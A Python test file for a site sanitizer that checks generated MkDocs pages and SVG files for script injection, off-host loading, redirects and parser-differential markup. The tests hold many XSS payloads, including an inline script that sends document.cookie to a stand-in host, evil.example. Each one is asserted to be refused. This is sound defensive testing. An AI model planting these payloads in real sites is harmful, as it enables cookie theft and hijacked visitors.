"""The finished-page check: what it refuses in the theme's part of a page, and that checking
each layout once gives every page the same verdict as checking it in full."""

from __future__ import annotations

import pytest
from markupsafe import escape

from rollbook.site.sanitize import (
    CONTENT_END,
    CONTENT_START,
    ChromeChecks,
    UnsafeOutput,
    check_document,
    check_page,
)

LAYOUT = (
    "<!doctype html><html><head>"
    '<meta name="description" content="{description}">'
    "<title>{title} - Runbooks</title>"
    '<script id="__config" type="application/json">{{"base": "../.."}}</script>'
    "</head><body><header><h1>{title}</h1></header>"
    + CONTENT_START
    + "<article>{content}</article>"
    + CONTENT_END
    + '<footer><a href="../../">Home</a></footer>'
    '<script src="../../assets/rollbook/rollbook.js"></script></body></html>'
)


# What rollbook puts between the content markers of LAYOUT's pages.
CONTENT = "<article><p>steps</p></article>"


def page(title: str, description: str = "A feature.", layout: str = LAYOUT) -> tuple[str, tuple]:
    """A page as the theme prints it (escaped), and its own strings as check_page takes them."""
    t, d = str(escape(title)), str(escape(description))
    html = layout.format(title=t, description=d, content="<p>steps</p>")
    return html, (t, d)


@pytest.mark.parametrize(
    ("insert", "found"),
    [
        ('<img src="x" onerror="alert(1)">', "event handler 'onerror'"),
        ('<a href="javascript:alert(1)">x</a>', "href='javascript:alert(1)'"),
        ('<a href="&#106;avascript:alert(1)">x</a>', "href='javascript:alert(1)'"),
        ("<script>alert(1)</script>", "unexpected inline script"),
        ('<script src="https://cdn.example.com/x.js"></script>', "script from another host"),
        ('<iframe src="https://example.com"></iframe>', "unexpected <iframe>"),
    ],
)
def test_active_markup_in_the_theme_is_refused(insert: str, found: str) -> None:
    html, own = page("Checkout")
    html = html.replace("<footer>", insert + "<footer>")
    for checks in (None, ChromeChecks()):
        with pytest.raises(UnsafeOutput, match=found.replace("(", r"\(").replace(")", r"\)")):
            check_page(html, "runbooks/x/index.html", own_text=own, checks=checks)


def test_content_markers_go_and_the_content_is_kept_as_it_is() -> None:
    html, own = page("Checkout")
    html = html.replace("<p>steps</p>", "<pre>  two\n\n    spaces</pre>")
    out = check_page(html, "x", own_text=own, checks=ChromeChecks())
    assert CONTENT_START not in out and CONTENT_END not in out
    assert "<pre>  two\n\n    spaces</pre>" in out


def test_each_layout_is_parsed_once_whatever_the_titles() -> None:
    checks = ChromeChecks()
    titles = [f'Feature {i}: Tom & Jerry\'s <b> "launch"' for i in range(200)]
    for i, title in enumerate(titles):
        html, own = page(title, description=f"Summary {i} & more.")
        check_page(html, f"runbooks/f{i}/index.html", own_text=own, checks=checks)
    assert checks.parsed == 1


def _checked_every_time(layout: str, titles: list[str]) -> int:
    checks = ChromeChecks()
    for title in titles:
        html, own = page(title, layout=layout)
        check_page(html, "x", own_text=own, checks=checks)
    return checks.parsed


@pytest.mark.parametrize(
    "layout",
    [
        # The title where any text could become a URL, a script or new attributes.
        LAYOUT.replace("<footer>", '<footer><a href="{title}">t</a>'),
        LAYOUT.replace(
            "<footer>", '<footer><script type="application/json">{{"t": "{title}"}}</script>'
        ),
        LAYOUT.replace("<footer>", "<footer><meta content={title}>"),
        LAYOUT.replace("<footer>", "<footer><!-- {title} -->"),
        LAYOUT.replace("<footer>", "<footer><{title}>"),
    ],
)
def test_layouts_where_text_is_not_harmless_are_checked_in_full(layout: str) -> None:
    # Every page parsed in full (a trusted layout would be parsed once).
    assert _checked_every_time(layout, ["one", "two", "three"]) >= 3


def test_a_page_gets_the_verdict_a_full_check_gives() -> None:
    unquoted = LAYOUT.replace("<footer>", "<footer><meta content={title}>")
    # Inert as escaped text (no < > or quotes), but it makes a handler in an unquoted value.
    html, own = page("x onmouseover=alert(1)", layout=unquoted)
    checks = ChromeChecks()
    check_page(page("harmless title", layout=unquoted)[0], "y", own_text=own, checks=checks)
    with pytest.raises(UnsafeOutput, match="onmouseover"):
        check_page(html, "x", own_text=own, checks=checks)
    tagged = LAYOUT.replace("<footer>", "<footer><{title}>")
    checks = ChromeChecks()
    check_page(page("b", layout=tagged)[0], "y", own_text=("b",), checks=checks)
    html, own = page("script", layout=tagged)
    with pytest.raises(UnsafeOutput, match="unexpected inline script"):
        check_page(html, "x", own_text=own, checks=checks)
    linked = LAYOUT.replace("<footer>", '<footer><a href="{title}">t</a>')
    checks = ChromeChecks()
    check_page(page("https://example.com", layout=linked)[0], "y", checks=checks)
    html, own = page("javascript:alert(1)", layout=linked)
    with pytest.raises(UnsafeOutput, match="javascript"):
        check_page(html, "x", own_text=own, checks=checks)


# ---------------------------------------------------------------------------------------------
# What the theme's part of a page may not do: run a script of its own, load from another host,
# redirect. Each insert stands where a user's theme file or an MkDocs setting could put it.

MATERIAL_SCRIPT = (
    '__md_scope=new URL("../..",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.'
    "charCodeAt(0)),0),__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t."
    'pathname+"."+e)),__md_set=(e,_,t=localStorage,a=__md_scope)=>{try{t.setItem(a.pathname+'
    '"."+e,JSON.stringify(_))}catch(e){}}'
)
DARK_SCRIPT = (
    'matchMedia("(prefers-color-scheme: dark)").matches&&document.body.setAttribute('
    '"data-md-color-scheme","slate");document.documentElement.classList.replace("no-js","js")'
)

SCRIPTS = [
    # Inline scripts that start (or end) like an accepted one.
    (f"<script>{MATERIAL_SCRIPT};fetch('//evil.example/'+document.cookie)</script>", "inline"),
    (f"<script>{DARK_SCRIPT};alert(1)</script>", "unexpected inline script"),
    (f"<script>alert(1);{DARK_SCRIPT}</script>", "unexpected inline script"),
    (
        "<script>" + MATERIAL_SCRIPT.replace('"../.."', '""+alert(1)+""') + "</script>",
        "unexpected inline script",
    ),
    (
        "<script>" + MATERIAL_SCRIPT.replace('"../.."', '"https://evil.example/"') + "</script>",
        "unexpected inline script",
    ),
    ("<script type=module>import 'https://evil.example/x.js'</script>", "inline script"),
    # The first of two type attributes is the one a browser uses.
    (
        '<script type="text/javascript" type="application/json">alert(1)</script>',
        "unexpected inline script",
    ),
    (
        '<script type="importmap">{"imports": {"x": "https://evil.example/x.js"}}</script>',
        "a script of type 'importmap'",
    ),
    (
        '<script type="speculationrules">{"prefetch": [{"urls": ["https://evil.example/"]}]}'
        "</script>",
        "a script of type 'speculationrules'",
    ),
    ("<script/>alert(1)</script>", "<script/>"),
    ('<script src="../../assets/evil.js"></script>', "not rollbook's or Material's"),
    ('<script src="//evil.example/x.js"></script>', "script from another host"),
    ('<script src="/\\evil.example/x.js"></script>', "script from another host"),
    ('<svg><script href="https://evil.example/x.js"></script></svg>', "script from another host"),
    (
        '<script src="../../assets/rollbook/rollbook.js" '
        'data-rb-material="https://evil.example/x.js"></script>',
        "a page script that loads 'https://evil.example/x.js'",
    ),
    (
        '<script src="../../assets/rollbook/rollbook.js"></script x><img src=//evil.example/>'
        "</script>",
        "a browser ends it there",
    ),
]
REDIRECTS = [
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', '"refresh"'),
    ('<meta http-equiv="Refresh" content="30">', '"refresh"'),
    ('<meta http-equiv=" REFRESH " content="0; url=//evil.example">', '"refresh"'),
    ('<noscript><meta http-equiv="refresh" content="0;url=/x"></noscript>', '"refresh"'),
    ('<meta http-equiv="set-cookie" content="a=b">', '"set-cookie"'),
    ('<meta name="msapplication-config" content="https://evil.example/b.xml">', "msapplication"),
    ('<meta charset="utf-7">', "pages are UTF-8"),
    ('<base href="https://evil.example/">', "unexpected <base>"),
    ('<form action="https://evil.example/collect"><input name="q"></form>', "<form action>"),
    ('<form><button formaction="//evil.example/x">Go</button></form>', "<button formaction>"),
    ('<a href="vbscript:msgbox(1)">x</a>', "a vbscript: link"),
    ('<a href="jav&#x09;ascript:alert(1)">x</a>', "a javascript: link"),
    ('<link rel="canonical" href="javascript:alert(1)">', "a javascript: link"),
]
LOADS = [
    ('<link rel="prefetch" href="https://evil.example/">', '<link rel="prefetch">'),
    ('<link rel="dns-prefetch" href="//evil.example">', '<link rel="dns-prefetch">'),
    ('<link rel="preconnect" href="https://fonts.gstatic.com" crossorigin>', "preconnect"),
    ('<link rel="stylesheet" href="https://evil.example/x.css">', '<link rel="stylesheet">'),
    ('<link rel="alternate stylesheet" href="https://evil.example/x.css">', "stylesheet"),
    ('<link rel="icon" href="https:&#x2F;&#x2F;evil.example/i.png">', '<link rel="icon">'),
    ('<link rel="manifest" href="https://evil.example/m.json">', '<link rel="manifest">'),
    ('<link rel="modulepreload" href="//evil.example/m.js">', "modulepreload"),
    (
        '<link rel="preload" as="image" href="x.png" imagesrcset="//evil.example/a.png 2x">',
        "imagesrcset",
    ),
    ("<img src=//evil.example/x.png>", "<img src>"),
    ('<img src="/\\evil.example/x.png">', "<img src>"),
    ('<img src="/&#9;/evil.example/x.png">', "<img src>"),
    ('<img src=" https://evil.example/x.png">', "<img src>"),
    ('<img src="data:image/svg+xml,x">', "<img src>"),
    ('<img src="a.png" srcset="a.png 1x, https://evil.example/b.png 2x">', "<img srcset>"),
    ('<picture><source srcset="//evil.example/x.webp"></picture>', "<source srcset>"),
    ('<video poster="https://evil.example/p.png"></video>', "<video poster>"),
    ('<audio src="https://evil.example/a.mp3"></audio>', "<audio src>"),
    ('<video><track src="https://evil.example/t.vtt"></video>', "<track src>"),
    ('<input type="image" src="https://evil.example/b.png">', "<input src>"),
    ('<table background="https://evil.example/bg.png"></table>', "<table background>"),
    ('<a href="../../" ping="https://evil.example/p">Home</a>', "<a ping>"),
    ('<iframe src="https://example.com"></iframe>', "unexpected <iframe>"),
    ('<iframe srcdoc="<script>alert(1)</script>"></iframe>', "srcdoc"),
    ('<frameset><frame src="x.html"></frameset>', "unexpected <frame>"),
    ('<object data="https://evil.example/x.swf"></object>', "unexpected <object>"),
    ('<embed src="https://evil.example/x">', "unexpected <embed>"),
    ('<svg><use href="https://evil.example/s.svg#i"/></svg>', "<use href>"),
    ('<svg><use xlink:href="//evil.example/s.svg#i"/></svg>', "<use xlink:href>"),
    ('<svg><image href="https://evil.example/x.png"/></svg>', "<image href>"),
    ('<svg><feImage href="https://evil.example/x.png"/></svg>', "<feimage href>"),
    ('<svg xml:base="https://evil.example/"><image href="x.png"/></svg>', "<svg xml:base>"),
    ('<svg><a><set attributeName="href" to="javascript:alert(1)"/></a></svg>', "changes href"),
    ('<svg><rect fill="url(https://evil.example/p.svg#g)"/></svg>', "(<rect fill>)"),
]
STYLES = [
    ("<style>@import url(https://evil.example/x.css);</style>", "(<style>)"),
    ('<style>@import "//evil.example/x.css";</style>', "(<style>)"),
    ('<style>body{background:url( "https://evil.example/x.png" )}</style>', "(<style>)"),
    ("<style>body{background:u\\72l(https://evil.example/x.png)}</style>", "(<style>)"),
    ('<style>body{background:image-set("https://evil.example/x.png" 1x)}</style>', "(<style>)"),
    ("<style>@font-face{font-family:x;src:url(//evil.example/f.woff2)}</style>", "(<style>)"),
    ('<div style="background:url(https://evil.example/x.png)">x</div>', "(<div style>)"),
    ("<div style=\"background-image:URL('//evil.example/x')\">x</div>", "(<div style>)"),
    ('<div style="background:url(https&#58;//evil.example/x)">x</div>', "(<div style>)"),
    ("<svg><style><img src=x onerror=alert(1)></style></svg>", "markup inside an SVG <style>"),
]
# Markup that Python's parser and a browser read differently: what a browser sees as a tag
# hides in what Python takes for a comment or a declaration.
DIFFERENTIALS = [
    ("<!--><img src=//evil.example/x>-->", "a comment that a browser ends early"),
    ("<!---><img src=//evil.example/x>-->", "a comment that a browser ends early"),
    ("<!-- --!><img src=//evil.example/x>-->", "a comment that a browser ends early"),
    ("<![CDATA[><img src=//evil.example/x>]]>", "<![CDATA["),
    ('<!DOCTYPE html PUBLIC "><x>">', "<!DOCTYPE html PUBLIC"),
]


def _refused(insert: str, found: str) -> None:
    html, own = page("Checkout")
    html = html.replace("<footer>", insert + "<footer>")
    for checks in (None, ChromeChecks()):
        with pytest.raises(UnsafeOutput) as caught:
            check_page(html, "runbooks/x/index.html", own_text=own, checks=checks)
        assert found in str(caught.value), str(caught.value)
        assert str(caught.value).startswith("runbooks/x/index.html: ")


@pytest.mark.parametrize(("insert", "found"), SCRIPTS)
def test_scripts_are_accepted_whole_not_by_how_they_start(insert: str, found: str) -> None:
    _refused(insert, found)


@pytest.mark.parametrize(("insert", "found"), REDIRECTS)
def test_redirects_and_links_elsewhere_are_refused(insert: str, found: str) -> None:
    _refused(insert, found)


@pytest.mark.parametrize(("insert", "found"), LOADS)
def test_nothing_loads_from_another_host(insert: str, found: str) -> None:
    _refused(insert, found)


@pytest.mark.parametrize(("insert", "found"), STYLES)
def test_styles_load_nothing_from_another_host(insert: str, found: str) -> None:
    _refused(insert, found)


@pytest.mark.parametrize(("insert", "found"), DIFFERENTIALS)
def test_markup_a_browser_reads_differently_is_refused(insert: str, found: str) -> None:
    _refused(insert, found)


@pytest.mark.parametrize(
    "insert",
    [
        # Material's and rollbook's own scripts, with the base URLs MkDocs writes.
        f"<script>{MATERIAL_SCRIPT}</script>",
        "<script>" + MATERIAL_SCRIPT.replace('"../.."', '"."') + "</script>",
        "<script>" + MATERIAL_SCRIPT.replace('"../.."', '"/runbooks"') + "</script>",
        f"<script>{DARK_SCRIPT}</script>",
        "<script>var target=document.getElementById(location.hash.slice(1));target&&target."
        'name&&(target.checked=target.name.startsWith("__tabbed_"))</script>',
        '<script src="../../assets/rollbook/rollbook.js" data-rb-sw="1" data-rb-material='
        '"../../assets/javascripts/bundle.a5f9d56c.min.js" defer></script>',
        '<script src="/assets/javascripts/bundle.a5f9d56c.min.js"></script>',
        '<script type="application/json">{"x": 1}</script>',
        # What stays within the site, links people follow, and pictures that load nothing.
        '<link rel="icon" href="../../assets/images/favicon.png">',
        '<link rel="canonical" href="https://runbooks.example.com/runbooks/x/">',
        '<link rel="stylesheet" href="../../assets/rollbook/dark.css" media="print">',
        '<img src="../../assets/images/x.png" srcset="../../a.png 1x, ../../b.png 2x">',
        '<a href="https://grafana.example.com/d/x?a=1,2">Grafana</a> <a href="tel:+4420">Call</a>',
        '<svg xmlns="http://www.w3.org/2000/svg"><use href="#icon"/><rect fill="url(#g)"/></svg>',
        '<div style="color: red; background: url(../../assets/images/x.png)">x</div>',
        "<style>.x{background:url(\"data:image/svg+xml;charset=utf-8,<svg xmlns='http://www.w3"
        ".org/2000/svg'/>\")}</style>",
        '<form class="md-search__form" name="search"><input name="query"></form>',
        '<meta http-equiv="X-UA-Compatible" content="IE=edge"><meta charset="UTF-8">',
        "<!-- a comment -->",
    ],
)
def test_what_the_site_itself_uses_passes(insert: str) -> None:
    html, own = page("Checkout")
    html = html.replace("<footer>", insert + "<footer>")
    for checks in (None, ChromeChecks()):
        check_page(html, "runbooks/x/index.html", own_text=own, checks=checks)


def test_a_theme_cannot_mark_its_own_markup_as_content() -> None:
    # A theme file that writes rollbook's content markers around a script of its own: the
    # part between markers is skipped only when it is what rollbook put there, once.
    html, own = page("Checkout")
    smuggled = CONTENT_START + "<script>alert(1)</script>" + CONTENT_END
    twice = html.replace("<footer>", smuggled + "<footer>")
    with pytest.raises(UnsafeOutput, match="content markers appear 2 time"):
        check_page(twice, "x", own_text=own, checks=ChromeChecks(), content=CONTENT)
    instead = html.replace("<p>steps</p>", "<script>alert(1)</script>")
    with pytest.raises(UnsafeOutput, match="not what rollbook wrote"):
        check_page(instead, "x", content=CONTENT)
    # Without the content rollbook wrote (MkDocs' own pages), what is marked is checked too.
    with pytest.raises(UnsafeOutput, match="unexpected inline script"):
        check_page(instead, "404.html")
    assert CONTENT_START not in check_page(html, "x", content=CONTENT)


@pytest.mark.parametrize(
    ("layout", "harmless", "hostile", "found"),
    [
        # The page's own text where the check reads a value: a name, a rel, a type.
        (
            '<footer><meta name="{title}" content="https://evil.example/b.xml">',
            "author",
            "msapplication-config",
            "msapplication",
        ),
        (
            '<footer><link rel="{title}" href="https://evil.example/">',
            "canonical",
            "prefetch",
            "prefetch",
        ),
        (
            '<footer><meta http-equiv="{title}" content="0;url=/x">',
            "x-ua-compatible",
            "refresh",
            "refresh",
        ),
    ],
)
def test_text_in_a_value_the_check_reads_gets_a_check_of_its_own(
    layout: str, harmless: str, hostile: str, found: str
) -> None:
    layout = LAYOUT.replace("<footer>", layout)
    checks = ChromeChecks()
    html, own = page(harmless, layout=layout)
    check_page(html, "y", own_text=own, checks=checks, content=CONTENT)
    html, own = page(hostile, layout=layout)
    with pytest.raises(UnsafeOutput, match=found):
        check_page(html, "x", own_text=own, checks=checks, content=CONTENT)


# Documents a browser opens as XML: an SVG or XHTML file from a user's theme folder, which
# MkDocs copies into the site, runs scripts on the site's own origin when opened.
LOGO = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'viewBox="0 0 10 10"><defs><linearGradient id="g"/></defs><style>rect{fill:url(#g)}</style>'
    '<rect width="10" height="10"/><use xlink:href="#g"/></svg>\n'
)


@pytest.mark.parametrize(
    ("document", "found"),
    [
        ('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "event handler"),
        ("<svg><script>alert(1)</script></svg>", "unexpected inline script"),
        ("<svg><script><![CDATA[alert(1)]]></script></svg>", "unexpected inline script"),
        (
            '<svg xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></svg>',
            "a namespaced element <h:script>",
        ),
        (
            '<svg xmlns:l="http://www.w3.org/1999/xlink">'
            '<a l:href="javascript:alert(1)">x</a></svg>',
            "a namespaced attribute 'xmlns:l'",
        ),
        (
            '<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?><svg/>',
            "<?xml-stylesheet",
        ),
        (
            '<!DOCTYPE svg [<!ENTITY x "&#60;script&#62;alert(1)&#60;/script&#62;">]>'
            "<svg>&x;</svg>",
            "<!DOCTYPE svg [",
        ),
        (
            '<x xmlns="http://www.w3.org/1999/xhtml">'
            '<style><img src="//evil.example/"/></style></x>',
            "markup inside an SVG <style>",
        ),
        ('<svg><image href="https://evil.example/x.png"/></svg>', "<image href>"),
        ("<svg><style>@import url(//evil.example/x.css);</style></svg>", "(<style>)"),
        ('<?xml version="1.0" encoding="UTF-16"?><svg/>', "documents are UTF-8"),
    ],
)
def test_documents_a_browser_opens_as_xml_are_checked(document: str, found: str) -> None:
    with pytest.raises(UnsafeOutput) as caught:
        check_document(document.encode("utf-8"), "logo.svg")
    assert found in str(caught.value), str(caught.value)
    with pytest.raises(UnsafeOutput, match="not UTF-8"):
        check_document(document.encode("utf-16"), "logo.svg")


def test_a_plain_svg_picture_and_a_sitemap_pass() -> None:
    check_document(LOGO.encode("utf-8"), "logo.svg")
    sitemap = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<urlset xmlns="http://www.sitemaps.org/schemas/'
        'sitemap/0.9">\n<url><loc>https://runbooks.example.com/teams/</loc></url>\n</urlset>'
    )
    check_document(sitemap.encode("utf-8"), "sitemap.xml")
